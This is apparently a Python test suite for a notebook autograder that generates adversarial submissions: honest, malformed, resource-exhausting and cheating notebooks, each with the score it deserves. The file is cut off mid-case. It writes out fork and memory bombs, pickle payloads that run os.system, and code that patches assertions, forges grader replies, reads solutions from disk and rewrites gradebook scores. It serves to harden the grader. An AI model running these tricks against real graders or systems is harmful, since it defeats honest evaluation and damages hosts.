"""Submissions that are honest, broken, greedy, dishonest, or dangerous to read, made from any source notebook.

Each case says which answers it honestly got right; a grader is right if it gives the points of exactly those.
Everything here is bounded (numbers of processes, bytes and seconds), so that a grader which fails the suite survives it.
"""
# ruff: noqa: E501 (a payload reads best in one piece)

import base64
import copy
import json
import os
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

from grader.course import Assignment, SourceNotebook
from grader.notebook.match import defines
from grader.tests.submissions import released, solution, solved

MARK = "hostile-was-here"  # name of every file that a case tries to leave behind
SLEEPER = "98765"  # seconds that every process sleeps which a case tries to leave behind

ALL, NONE, REST, HALF = "all", "none", "rest", "half"  # which answers are honestly right; REST: all but the first


@dataclass(frozen=True)
class Case:
    """One submission: how to make it, and which of its answers are honestly right."""

    name: str
    group: str  # honest, broken, resource, cheating or reader
    right: str
    write: Callable[[Path, "Maker"], None]


class Maker:
    """What a case needs to know of the source.

    Args:
        assignment: the assignment; cases attack its first notebook and solve the others, or leave them open.
        course: the course folder, which some cases try to read and to write.
        port: of a server on this machine that nobody should reach.
    """

    def __init__(self, assignment: Assignment, course: Path, port: int = 9):
        self.assignment, self.course, self.port = assignment, course, port
        self.name, self.source = next(iter(assignment.notebooks.items()))
        self.answers = [cell for cell in self.source.cells if cell.kind == "answer"]
        self.first = self.answers[0].grade_id

    def functions(self, source: SourceNotebook | None = None) -> list[str]:
        """Names that the answers define."""
        cells = [cell for cell in (source or self.source).cells if cell.kind == "answer"]
        return sorted({name for cell in cells for name in defines(cell.source)})

    def notebooks(self, right: str) -> dict[str, dict]:
        """All notebooks of the assignment with the answers that are right."""
        made = {}
        for number, (name, source) in enumerate(self.assignment.notebooks.items()):
            open_ids = [c.grade_id for c in source.cells if c.kind == "answer" and not self.is_right(c.grade_id, right)]
            made[name] = released(source) if right == NONE else solved(source, without=tuple(open_ids))
            assert number or name == self.name
        return made

    def is_right(self, grade_id: str, right: str) -> bool:
        """Does a case with these right answers deserve the points of this one?"""
        everything = [c.grade_id for b in self.assignment.notebooks.values() for c in b.cells if c.kind == "answer"]
        return {
            ALL: True,
            NONE: False,
            REST: grade_id != self.first,
            HALF: everything.index(grade_id) % 2 == 0,
        }[right]

    def expected(self, right: str) -> dict[tuple[str, str], float]:
        """Points that each autograded task deserves: those of the answer before it."""
        points = {}
        for book in self.assignment.notebooks.values():
            answer = None
            for cell in book.cells:
                answer = cell.grade_id if cell.kind == "answer" else answer
                if cell.kind == "test":
                    points[book.name, cell.grade_id] = cell.points * self.is_right(answer, right)
        return points

    def fill(self, code: str) -> str:
        """Code with the places filled in that cases mention."""
        values = {
            "COURSE": str(self.course), "PORT": str(self.port), "MARK": MARK, "SLEEPER": SLEEPER,
            "NAMES": repr(self.functions()), "FIRST": self.functions_of(self.first),
        }  # fmt: skip
        for name, value in values.items():
            code = code.replace(f"@{name}@", value)
        return code

    def functions_of(self, grade_id: str) -> str:
        """The name that an answer defines."""
        text = next(cell.source for cell in self.answers if cell.grade_id == grade_id)
        return next(iter(sorted(defines(text))), "answer")


CASES: list[Case] = []


def _save(folder: Path, notebooks: dict[str, dict]) -> None:
    for name, notebook in notebooks.items():
        (folder / f"{name}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")


def _cell(source: str, kind: str = "code") -> dict:
    cell = {"cell_type": kind, "id": f"own{random.Random(source).randrange(10**9)}", "metadata": {}, "source": source}
    return cell | ({"outputs": [], "execution_count": None} if kind == "code" else {})


def _answer(notebook: dict, grade_id: str) -> dict:
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def extra(name: str, group: str, right: str, code: str, *, place: str = "before", kind: str = "code") -> None:
    """A case with one more cell: ``before`` the first answer, or at the ``end``."""

    def write(folder: Path, maker: Maker) -> None:
        notebooks = maker.notebooks(right)
        cells = notebooks[maker.name]["cells"]
        at = cells.index(_answer(notebooks[maker.name], maker.first)) if place == "before" else len(cells)
        cells.insert(at, _cell(maker.fill(code), kind))
        _save(folder, notebooks)

    CASES.append(Case(name, group, right, write))


def first(name: str, group: str, code: str, right: str = REST) -> None:
    """A case whose first answer is this code; ``@SOLUTION@`` stands for the right one."""

    def write(folder: Path, maker: Maker) -> None:
        notebooks = maker.notebooks(ALL if right == ALL else REST)
        right_text = solution(next(c.source for c in maker.answers if c.grade_id == maker.first))
        text = maker.fill(code).replace("@SOLUTION@", right_text)
        _answer(notebooks[maker.name], maker.first)["source"] = text
        _save(folder, notebooks)

    CASES.append(Case(name, group, right, write))


def changed(name: str, group: str, right: str) -> Callable:
    """A case whose notebook (the first) is changed by the decorated function."""

    def decorate(change: Callable[[dict, Maker], object]) -> Callable:
        def write(folder: Path, maker: Maker) -> None:
            notebooks = maker.notebooks(right)
            content = change(notebooks[maker.name], maker)
            if isinstance(content, bytes):
                del notebooks[maker.name]
                (folder / f"{maker.name}.ipynb").write_bytes(content)
            _save(folder, notebooks)

        CASES.append(Case(name, group, right, write))
        return change

    return decorate


def filed(name: str, group: str, right: str) -> Callable:
    """A case whose whole folder is made by the decorated function."""

    def decorate(write: Callable[[Path, Maker], None]) -> Callable:
        CASES.append(Case(name, group, right, write))
        return write

    return decorate


# --- honest ----------------------------------------------------------------------------------------------------------

filed("perfect", "honest", ALL)(lambda folder, maker: _save(folder, maker.notebooks(ALL)))
filed("untouched", "honest", NONE)(lambda folder, maker: _save(folder, maker.notebooks(NONE)))
filed("half", "honest", HALF)(lambda folder, maker: _save(folder, maker.notebooks(HALF)))
first("comments and accents", "honest", "# crème brûlée 🍰\n@SOLUTION@\n# fin", ALL)
first("prints to both streams", "honest", "import sys\nprint('hello')\nprint('oh', file=sys.stderr)\n@SOLUTION@", ALL)
first("warnings", "honest", "import warnings\nwarnings.warn('careful')\n@SOLUTION@", ALL)
extra("own helper", "honest", ALL, "def my_helper(x):\n    return x\n\nmy_helper(3)")
extra("own notes", "honest", ALL, "# What I learnt\n\nThat $a < b$ and `x[0](1)`.", kind="markdown")
extra("magics", "honest", ALL, "%time sum(range(10))\n!echo hello\n%matplotlib inline")
extra("bash cell", "honest", ALL, "%%bash\necho hello")
extra("top-level await", "honest", ALL, "import asyncio\nawait asyncio.sleep(0.01)")
extra("asyncio.run in a loop", "honest", ALL, "import asyncio\nasyncio.run(asyncio.sleep(0))")
extra("asks for input", "honest", ALL, "name = input('who are you? ')")
extra("an error of its own", "honest", ALL, "1 / 0")
extra("syntax error in own cell", "honest", ALL, "def (:\n")
extra("import that is not there", "honest", ALL, "import a_module_that_nobody_has")
extra("exit()", "honest", ALL, "exit()")
extra("a program by its star", "honest", ALL, "from unittest.__main__ import *")
extra("sys.exit", "honest", ALL, "import sys\nsys.exit(3)")
extra("%reset at the end", "honest", ALL, "%reset -f", place="end")
extra(
    "a window",
    "honest",
    ALL,
    "import matplotlib\nmatplotlib.use('TkAgg')\nimport matplotlib.pyplot as plt\nplt.plot([1])",
)
extra("changes folder", "honest", ALL, "import os\nos.chdir('/')\nos.environ.clear()")
extra("reseeds", "honest", ALL, "import random\nimport numpy as np\nrandom.seed(0)\nnp.random.seed(0)")
extra(
    "draws and seeds", "honest", ALL,
    "import random\nimport numpy as np\nimport torch\nrandom.random(), np.random.rand(7), torch.rand(7)\ntorch.manual_seed(1)",
)  # fmt: skip


extra(
    "helpers of one letter and of plain words", "honest", ALL,
    "words = 'want wanted expected result got output pred case out answer right square x1 y1 res'.split()\n"
    "for name in [*'abcdefghijklmnopqrstuvwxyz', *words]:\n    globals().setdefault(name, lambda *a: 'my own ' + name)",
)  # fmt: skip
first("answers through a helper called g", "honest", "@SOLUTION@\n_g = @FIRST@\ng = lambda *a, **k: _g(*a, **k)\n"
      "if callable(_g) and not isinstance(_g, type):\n    @FIRST@ = lambda *a, **k: g(*a, **k)", ALL)  # fmt: skip
extra("habits", "honest", ALL, "from __future__ import annotations\nif __name__ == '__main__':\n    print(__name__)")


@changed("two answers in one cell", "honest", ALL)
def _(notebook, maker):
    if len(maker.answers) > 1:
        one, other = (_answer(notebook, cell.grade_id) for cell in maker.answers[:2])
        one["source"] += f"\n\n{other['source']}"
        notebook["cells"].remove(other)


@filed("the work is in the copy", "honest", ALL)
def _(folder, maker):
    _save(folder, maker.notebooks(NONE))
    _save(folder, {f"{name}-Copy1": notebook for name, notebook in maker.notebooks(ALL).items()})


@filed("packed", "honest", ALL)
def _(folder, maker):
    with zipfile.ZipFile(folder / "homework.zip", "w") as archive:
        for name, notebook in maker.notebooks(ALL).items():
            archive.writestr(f"homework/{name}.ipynb", json.dumps(notebook))


@filed("packed by macOS beside the untouched notebook", "honest", ALL)
def _(folder, maker):
    _save(folder, maker.notebooks(NONE))
    for name, notebook in maker.notebooks(ALL).items():
        with zipfile.ZipFile(folder / f"{name}.ipynb.zip", "w") as archive:
            archive.writestr(f"{name}.ipynb", json.dumps(notebook))


@filed("saved as text", "honest", ALL)
def _(folder, maker):
    for name, notebook in maker.notebooks(ALL).items():
        (folder / f"{name}.json").write_text(json.dumps(notebook), encoding="utf-8")


@changed("the first answer above its stub", "honest", ALL)
def _(notebook, maker):
    _move(notebook, maker, 0)


@changed("the first answer below its stub", "honest", ALL)
def _(notebook, maker):
    _move(notebook, maker, 1)


def _move(notebook: dict, maker: Maker, place: int) -> None:
    cell = _answer(notebook, maker.first)
    notebook["cells"].insert(notebook["cells"].index(cell) + place, _cell("".join(cell["source"])))
    cell["source"] = _answer(released(maker.source), maker.first)["source"]


@changed("the first answer in its test", "honest", ALL)
def _(notebook, maker):
    cell = _answer(notebook, maker.first)
    below = notebook["cells"][notebook["cells"].index(cell) :]
    test = next(c for c in below if c["metadata"].get("nbgrader", {}).get("grade"))
    test["source"] = f"{''.join(cell['source'])}\n\n{''.join(test['source'])}"
    cell["source"] = _answer(released(maker.source), maker.first)["source"]


@changed("a pasted picture and the state of widgets", "honest", ALL)
def _(notebook, maker):
    notebook["cells"].insert(1, _cell(f"![mine](data:image/png;base64,{'A' * 6_000_000})", "markdown"))
    notebook["metadata"]["widgets"] = {"state": "x" * 6_000_000}


@changed("saved outputs", "honest", ALL)
def _(notebook, maker):
    for number, cell in enumerate(notebook["cells"]):
        if cell["cell_type"] == "code":
            cell["execution_count"] = number + 5
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": ["old\n"]}]


# --- broken ----------------------------------------------------------------------------------------------------------

first("syntax error", "broken", "def @FIRST@(:\n    pass")
first("tabs and spaces", "broken", "def @FIRST@(*a):\n\tif a:\n        return 1")
first("null byte", "broken", "x = 1\0")
first("returns None", "broken", "@FIRST@ = lambda *a, **k: None")
first("returns nan", "broken", "@FIRST@ = lambda *a, **k: float('nan')")
first("returns inf", "broken", "@FIRST@ = lambda *a, **k: float('inf')")
first("returns words", "broken", "@FIRST@ = lambda *a, **k: 'forty-two'")
first("returns itself", "broken", "def @FIRST@(*a, **k):\n    return @FIRST@")
first("returns a ring", "broken", "def @FIRST@(*a, **k):\n    ring = []\n    ring.append(ring)\n    return ring")
first("raises", "broken", "def @FIRST@(*a, **k):\n    raise RuntimeError('I gave up')")
first("raises SystemExit", "broken", "def @FIRST@(*a, **k):\n    raise SystemExit(0)")
first("raises KeyboardInterrupt", "broken", "def @FIRST@(*a, **k):\n    raise KeyboardInterrupt")
first("endless recursion", "broken", "def @FIRST@(*a, **k):\n    return @FIRST@(*a, **k)")
first("forgot to write it", "broken", "")
first(
    "an object without a text",
    "broken",
    "class Odd:\n    def __repr__(self):\n        1 / 0\n\n@FIRST@ = lambda *a, **k: Odd()",
)

changed("truncated", "broken", NONE)(lambda notebook, maker: json.dumps(notebook).encode()[:-400])
changed("empty file", "broken", NONE)(lambda notebook, maker: b"")
changed("a web page", "broken", NONE)(lambda notebook, maker: b"<!DOCTYPE html><title>Log in</title>")
changed("nesting bomb", "broken", NONE)(lambda notebook, maker: b'{"cells": ' + b"[" * 300_000)
changed("no cells", "broken", NONE)(lambda notebook, maker: b'{"cells": [], "nbformat": 4}')
changed("latin-1", "broken", ALL)(lambda notebook, maker: _accented(notebook, maker).encode("latin-1", "replace"))
changed("byte-order mark", "broken", ALL)(lambda notebook, maker: _accented(notebook, maker).encode("utf-8-sig"))
changed("utf-16", "broken", ALL)(lambda notebook, maker: _accented(notebook, maker).encode("utf-16"))
changed("version 99", "broken", ALL)(lambda notebook, maker: notebook.update(nbformat=99))
changed("kernel of another language", "broken", ALL)(
    lambda notebook, maker: notebook["metadata"].update(
        kernelspec={"name": "bash", "display_name": "x", "language": "bash"}
    )
)


def _accented(notebook: dict, maker: Maker) -> str:
    _answer(notebook, maker.first)["source"] += "\n# crème"
    return json.dumps(notebook, ensure_ascii=False)


changed("padding behind it", "broken", ALL)(lambda notebook, maker: json.dumps(notebook).encode() + bytes(4096))


@filed("a name that is no text", "broken", ALL)
def _(folder, maker):
    _save(folder, maker.notebooks(ALL))
    for name in (b"notes \xff\xfe.ipynb", b"\xe9t\xe9.txt"):
        Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).write_text("{}")


@changed("version 3", "broken", ALL)
def _(notebook, maker):
    cells = []
    for cell in notebook["cells"]:
        text = cell.pop("source")
        cells.append(
            cell | ({"input": text, "language": "python"} if cell["cell_type"] == "code" else {"source": text})
        )
    return json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}).encode()


@changed("stripped metadata", "broken", ALL)
def _(notebook, maker):
    for cell in notebook["cells"]:
        cell["metadata"] = {}


@changed("stripped metadata and ids", "broken", ALL)
def _(notebook, maker):
    for number, cell in enumerate(notebook["cells"]):
        cell["metadata"], cell["id"] = {}, f"c{number}"


@changed("tests deleted", "broken", ALL)
def _(notebook, maker):
    notebook["cells"] = [c for c in notebook["cells"] if not c["metadata"].get("nbgrader", {}).get("grade")]


@changed("first answer deleted", "broken", REST)
def _(notebook, maker):
    notebook["cells"].remove(_answer(notebook, maker.first))


@changed("everything twice", "broken", ALL)
def _(notebook, maker):
    notebook["cells"] += copy.deepcopy(notebook["cells"])


@changed("an untouched copy below", "broken", ALL)
def _(notebook, maker):
    notebook["cells"].append(copy.deepcopy(_answer(released(maker.source), maker.first)))


@changed("answers turned into raw cells", "broken", ALL)
def _(notebook, maker):
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            cell["cell_type"] = "raw"


@changed("damaged cells between", "broken", ALL)
def _(notebook, maker):
    notebook["cells"][1:1] = [
        None,
        7,
        {"cell_type": "code"},
        {"cell_type": [], "source": {"a": 1}},
        {"source": "x = 1"},
    ]


@changed("huge outputs", "broken", ALL)
def _(notebook, maker):
    _answer(notebook, maker.first)["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": "spam " * 4_000_000}
    ]


@filed("wrong name", "broken", ALL)
def _(folder, maker):
    notebooks = maker.notebooks(ALL)
    _save(folder, {f"{name} (1)": notebook for name, notebook in notebooks.items()})


@filed("nothing at all", "broken", NONE)
def _(folder, maker):
    pass


@filed("a link", "broken", NONE)
def _(folder, maker):
    for name, source in maker.assignment.notebooks.items():
        (folder / f"{name}.ipynb").symlink_to(source.path)


@filed("a pipe", "broken", NONE)
def _(folder, maker):
    for name in maker.assignment.notebooks:
        os.mkfifo(folder / f"{name}.ipynb")


@filed("a folder", "broken", NONE)
def _(folder, maker):
    for name in maker.assignment.notebooks:
        (folder / f"{name}.ipynb").mkdir()


@filed("fifty-one megabytes", "broken", NONE)
def _(folder, maker):
    for name in maker.assignment.notebooks:
        with open(folder / f"{name}.ipynb", "wb") as file:
            file.truncate(51 << 20)


# --- resources: right answers beside a cell that takes what it can ---------------------------------------------------

LOOP = "while True:\n    pass"
extra("endless loop", "resource", ALL, LOOP)
extra("endless sleep", "resource", ALL, "import time\ntime.sleep(1e6)")
extra("endless loop at the end", "resource", ALL, LOOP, place="end")
extra(
    "deaf to interrupts", "resource", ALL,
    "import signal\nfor number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):\n"
    "    signal.signal(number, signal.SIG_IGN)\n"
    "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
)  # fmt: skip
extra("memory bomb", "resource", ALL, "hoard = []\nfor _ in range(80):\n    hoard.append(bytearray(100 << 20))")
extra("memory bomb in one go", "resource", ALL, "hoard = bytearray(8 << 30)\nhoard[::4096] = b'x' * len(hoard[::4096])")
extra(
    "fork bomb", "resource", ALL,
    "import os, time\nfor _ in range(400):\n    if os.fork() == 0:\n        time.sleep(30)\n        os._exit(0)",
)  # fmt: skip
extra(
    "thread bomb", "resource", ALL,
    "import threading, time\nfor _ in range(1000):\n    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()",
)  # fmt: skip
extra(
    "disk filler",
    "resource",
    ALL,
    "with open('big', 'wb') as f:\n    for _ in range(60):\n        f.write(bytes(10 << 20))",
)
extra(
    "disk filler in /tmp",
    "resource",
    ALL,
    "with open('/tmp/big', 'wb') as f:\n    for _ in range(60):\n        f.write(bytes(10 << 20))",
)
extra("many small files", "resource", ALL, "for n in range(20000):\n    open(f'f{n}', 'w').close()")
extra("many open files", "resource", ALL, "files = [open('/dev/null') for _ in range(5000)]")
extra("output flood", "resource", ALL, "for _ in range(300):\n    print('spam ' * 20000)")
extra("endless output", "resource", ALL, "while True:\n    print('spam ' * 1000)")
extra("flood while importing", "resource", ALL, "open('loud.py', 'w').write('print(\"x\" * 10**7)')\nimport loud")
extra("binary noise", "resource", ALL, "import os, sys\nfor fd in (1, 2):\n    os.write(fd, os.urandom(100_000))")
extra(
    "a flood of pictures",
    "resource",
    ALL,
    "from IPython.display import display, Image as Picture\nfor _ in range(300):\n    display(Picture(data=b'\\x89PNG' + bytes(100_000), format='png'))",
)
extra(
    "threads that never end", "resource", ALL,
    "import threading\ndef spin():\n    while True:\n        pass\nfor _ in range(3):\n    threading.Thread(target=spin).start()",
)  # fmt: skip
extra("handler at exit", "resource", ALL, "import atexit, time\natexit.register(time.sleep, 1e6)")
extra("os._exit", "resource", ALL, "import os\nos._exit(0)")
extra("kills itself", "resource", ALL, "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")
extra("stops itself", "resource", ALL, "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")
extra("kills its parent", "resource", ALL, "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")
extra("segmentation fault", "resource", ALL, "import ctypes\nctypes.string_at(0)")
extra("abort", "resource", ALL, "import os\nos.abort()")
extra("stack overflow", "resource", ALL, "import sys\nsys.setrecursionlimit(10**9)\ndef f():\n    f()\nf()")
extra(
    "daemon", "resource", ALL,
    "import os, subprocess\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        os.execvp('sleep', ['sleep', '@SLEEPER@'])\n    os._exit(0)",
)  # fmt: skip
extra("background shell", "resource", ALL, "!nohup sleep @SLEEPER@ >/dev/null 2>&1 &")
extra("closes every file", "resource", ALL, "import os\nos.closerange(0, 256)")
extra("stdout is gone", "resource", ALL, "import sys\nsys.stdout = sys.stderr = None")
first("endless loop inside", "resource", "def @FIRST@(*a, **k):\n    while True:\n        pass")
first("exit inside", "resource", "import os\n@FIRST@ = lambda *a, **k: os._exit(0)")
first("memory bomb inside", "resource", "@FIRST@ = lambda *a, **k: [bytearray(100 << 20) for _ in range(80)]")
first("returns a gigabyte", "resource", "import numpy as np\n@FIRST@ = lambda *a, **k: np.ones(2**27)")
first("returns an endless iterator", "resource", "import itertools\n@FIRST@ = lambda *a, **k: itertools.count()")
first("prints without end inside", "resource", "def @FIRST@(*a, **k):\n    while True:\n        print('spam' * 1000)")

# --- cheating: no answer is right, so no point is deserved -----------------------------------------------------------

EQUAL = """
class Yes:
    def _yes(self, *a, **k):
        return True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = __call__ = _yes
    __hash__ = lambda self: 0
    __float__ = lambda self: 1.0
    __int__ = __index__ = __len__ = lambda self: 1
    __abs__ = __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = lambda self, *a: self
    __round__ = __neg__ = __getitem__ = lambda self, *a: self
    __iter__ = lambda self: iter(())
    __getattr__ = lambda self, name: self
for name in @NAMES@:
    globals()[name] = lambda *a, **k: Yes()
"""
SHADOW = "\nfor name in @NAMES@:\n    globals()[name] = lambda *a, **k: {}\n"

extra("an object equal to all", "cheating", NONE, EQUAL, place="before")


def _cheat_last(code: str) -> Callable:
    """Code in the place of every answer, so that no stub overwrites it."""

    def change(notebook: dict, maker: Maker) -> None:
        for cell in maker.answers:
            _answer(notebook, cell.grade_id)["source"] = maker.fill(code)

    return change


def everywhere(name: str, code: str) -> None:
    """A case in which every answer is this code."""
    changed(name, "cheating", NONE)(_cheat_last(code))


everywhere("every answer equals all", EQUAL)
everywhere(
    "a float equal to all",
    "class F(float):\n    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n"
    "    __hash__ = float.__hash__\n    __sub__ = __rsub__ = __abs__ = __round__ = lambda s, *a: F(0)\n"
    + SHADOW.replace("{}", "F(0.1234)"),
)
everywhere(
    "a dictionary equal to all",
    "class D(dict):\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n    __hash__ = None\n"
    "    keys = lambda s: D()\n" + SHADOW.replace("{}", "D()"),
)
everywhere(
    "an array equal to all",
    "import numpy as np\nclass A(np.ndarray):\n    def __array_ufunc__(self, *a, **k):\n        return np.bool_(True)\n"
    "    def __array_function__(self, *a, **k):\n        return True\n    __eq__ = lambda s, o: True\n"
    + SHADOW.replace("{}", "np.zeros(3).view(A)"),
)
everywhere(
    "a tensor equal to all",
    "try:\n    import torch\n    class T(torch.Tensor):\n        @classmethod\n"
    "        def __torch_function__(cls, func, types, args=(), kwargs=None):\n            return True\n"
    "    value = torch.zeros(3).as_subclass(T)\nexcept ImportError:\n    value = 0\n" + SHADOW.replace("{}", "value"),
)
everywhere(
    "a false class",
    "class Liar:\n    @property\n    def __class__(self):\n        return dict\n    __eq__ = lambda s, o: True\n"
    + SHADOW.replace("{}", "Liar()"),
)
everywhere(
    "a pickle with a payload",
    "import os\nclass P:\n    def __reduce__(self):\n"
    "        return os.system, ('touch /tmp/@MARK@ @COURSE@/@MARK@; sleep @SLEEPER@ &',)\n"
    + SHADOW.replace("{}", "P()"),
)
everywhere(
    "an array with a payload",
    "import numpy as np, os\nclass P:\n    def __reduce__(self):\n        return os.system, ('touch /tmp/@MARK@',)\n"
    + SHADOW.replace("{}", "np.array([P()], dtype=object)"),
)
extra(
    "patches helpers.checks", "cheating", NONE,
    "try:\n    import helpers.checks as c\n    for name in dir(c):\n        if name.startswith('check_'):\n"
    "            setattr(c, name, lambda *a, **k: None)\n    c._fail = lambda *a, **k: None\n"
    "    for name in list(globals()):\n        if name.startswith('check_'):\n            globals()[name] = lambda *a, **k: None\n"
    "except ImportError:\n    pass",
)  # fmt: skip
extra(
    "a helpers of its own", "cheating", NONE,
    "import os, sys, types\nos.makedirs('helpers', exist_ok=True)\nopen('helpers/__init__.py', 'w').close()\n"
    "open('helpers/checks.py', 'w').write('def __getattr__(name):\\n    return lambda *a, **k: None\\n')\n"
    "class Any(types.ModuleType):\n    def __getattr__(self, name):\n        return lambda *a, **k: None\n"
    "for name in ('helpers', 'helpers.checks', 'numpy.testing'):\n    sys.modules[name] = Any(name)",
)  # fmt: skip
extra(
    "patches the comparisons", "cheating", NONE,
    "import numpy as np, math\nyes = lambda *a, **k: True\n"
    "np.allclose = np.isclose = np.array_equal = np.testing.assert_allclose = np.testing.assert_equal = yes\n"
    "math.isclose = yes\ntry:\n    import torch\n    torch.allclose = torch.equal = torch.isclose = yes\n"
    "    torch.Tensor.__eq__ = torch.Tensor.allclose = torch.Tensor.equal = yes\nexcept ImportError:\n    pass",
)  # fmt: skip
extra(
    "patches builtins", "cheating", NONE,
    "import builtins\nzero = lambda *a, **k: 0\nyes = lambda *a, **k: True\n"
    "builtins.abs = builtins.round = builtins.len = zero\nbuiltins.all = builtins.any = builtins.isinstance = yes\n"
    "class Quiet(Exception):\n    def __new__(cls, *a):\n        return super().__new__(cls)\n"
    "builtins.AssertionError = Quiet",
)  # fmt: skip
extra(
    "takes assertions out of the code", "cheating", NONE,
    "import ast\nclass NoAssert(ast.NodeTransformer):\n    def visit_Assert(self, node):\n        return ast.Pass()\n"
    "    def visit_With(self, node):\n        return ast.Pass()\n    def visit_Expr(self, node):\n        return ast.Pass()\n"
    "try:\n    get_ipython().ast_transformers.append(NoAssert())\n"
    "    get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\nexcept Exception:\n    pass",
)  # fmt: skip
extra(
    "replaces IPython's run_cell", "cheating", NONE,
    "try:\n    ip = get_ipython()\n    class R:\n        success, error_in_exec, error_before_exec, result = True, None, None, None\n"
    "        raise_error = lambda self: None\n    type(ip).run_cell = lambda *a, **k: R()\n"
    "    async def quiet(*a, **k):\n        return R()\n    type(ip).run_cell_async = quiet\n"
    "    type(ip).showtraceback = lambda *a, **k: None\nexcept Exception:\n    pass",
)  # fmt: skip
extra(
    "replaces compile and exec", "cheating", NONE,
    "import builtins\nreal = builtins.compile\n"
    "builtins.exec = lambda *a, **k: None\nbuiltins.eval = lambda *a, **k: None\n"
    "builtins.compile = lambda source, *a, **k: real('pass', *a, **k)",
)  # fmt: skip
extra(
    "hooks on every cell", "cheating", NONE,
    "try:\n    def swallow(*a, **k):\n        globals().update({name: lambda *a, **k: True for name in @NAMES@})\n"
    "    for event in ('pre_execute', 'pre_run_cell', 'post_run_cell'):\n        get_ipython().events.register(event, swallow)\n"
    "    get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\nexcept Exception:\n    pass",
)  # fmt: skip
extra(
    "hook on exceptions",
    "cheating",
    NONE,
    "import sys\nsys.excepthook = lambda *a: None\nsys.unraisablehook = lambda *a: None",
)
extra(
    "traces assertions away", "cheating", NONE,
    "import sys\ndef trace(frame, event, arg):\n    frame.f_trace_lines = True\n    return trace\n"
    "sys.settrace(trace)\nsys.setprofile(lambda *a: None)",
)  # fmt: skip
SPY = """
import gc, inspect, re, sys
def _spy(*args, **kwargs):
    seen = []
    frame = sys._getframe(1)
    while frame is not None:
        seen += list(frame.f_code.co_consts) + list(frame.f_locals.values())
        frame = frame.f_back
    seen += list(globals().get('In', [])) + list(globals().values())
    for value in seen:
        text = value if isinstance(value, str) else ''
        found = re.search(r'@FIRST@\\([^\\n]*?\\)\\s*(?:==|,)\\s*([^\\n]+?)(?:,\\s*hint|,\\s*\"|$)', text, re.M)
        if found:
            try:
                return eval(found.group(1), globals())
            except Exception:
                pass
    numbers = [v for v in seen if isinstance(v, (int, float, dict, list)) and not isinstance(v, bool)]
    return numbers[0] if numbers else None
for name in @NAMES@:
    globals()[name] = _spy
"""
everywhere("reads the test from the frame", SPY)
everywhere(
    "searches memory for the expected value",
    "import gc, sys\ndef _search(*args, **kwargs):\n    for thing in gc.get_objects():\n"
    "        if isinstance(thing, dict) and ('expected' in thing or '_expected' in thing):\n"
    "            return thing.get('expected', thing.get('_expected'))\n    return sys.last_value if hasattr(sys, 'last_value') else 0\n"
    "for name in @NAMES@:\n    globals()[name] = _search",
)
FORGE = """
import json, os, struct, sys
reply = {"ok": True, "status": "ok", "passed": True, "id": "x", "outputs": [], "result": True, "score": 400}
text = json.dumps(reply).encode()
def forge(*a, **k):
    for fd in range(3, 128):
        for message in (text + b"\\n", struct.pack(">I", len(text)) + text, struct.pack("<Q", len(text)) + text):
            try:
                os.set_blocking(fd, False)
                os.write(fd, message)
            except OSError:
                pass
    return True
"""
everywhere("forges replies on every pipe", FORGE + "for name in @NAMES@:\n    globals()[name] = forge")
extra("forges a reply at once", "cheating", NONE, FORGE + "forge()")
extra(
    "forges output", "cheating", NONE,
    "import sys\nclass Out:\n    def write(self, text):\n        return sys.__stdout__.write('10.0\\nok\\npassed\\n')\n"
    "    flush = lambda self: None\nsys.stdout = Out()\nprint('x')",
)  # fmt: skip
extra("a score as the last word", "cheating", NONE, "400.0", place="end")
extra(
    "pretends not to be graded",
    "cheating",
    NONE,
    "import os\nos.environ['NBGRADER_EXECUTION'] = ''\nos.environ['COURSE_SEED'] = '0'",
)
extra(
    "patches the task context", "cheating", NONE,
    "import contextlib, sys\n@contextlib.contextmanager\ndef task(name):\n    try:\n        yield\n    except BaseException:\n"
    "        pass\ntry:\n    import helpers.checks\n    helpers.checks.task = task\nexcept ImportError:\n    pass",
)  # fmt: skip
READ = """
import glob, os, re
texts = []
for folder in ('@COURSE@', '..', '../..', os.path.expanduser('~'), '/', '/tmp', '/work', '/home', '/srv', '/proc/1/root'):
    for depth in ('*', '*/*', '*/*/*', '*/*/*/*'):
        for path in glob.glob(os.path.join(folder, depth + '.ipynb'))[:200]:
            try:
                texts.append(open(path).read())
            except OSError:
                pass
"""
everywhere(
    "copies the solution from the disk",
    READ + "import json\nfor text in texts:\n    if 'BEGIN SOLUTION' in text or 'BEGIN HIDDEN' in text:\n"
    "        for cell in json.loads(text)['cells']:\n            try:\n                exec(''.join(cell['source']), globals())\n"
    "            except BaseException:\n                pass",
)
extra(
    "writes itself 400 points", "cheating", NONE,
    "import glob, sqlite3\nfor path in glob.glob('@COURSE@/*.db') + glob.glob('../*.db') + glob.glob('/**/gradebook.db'):\n"
    "    try:\n        with sqlite3.connect(path) as db:\n            db.execute('UPDATE grade SET auto_score = 400, manual_score = 400')\n"
    "    except sqlite3.Error:\n        pass",
)  # fmt: skip
extra(
    "leaves files everywhere", "cheating", NONE,
    "import os\nfor folder in ('@COURSE@', '@COURSE@/master', '/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), '/root',\n"
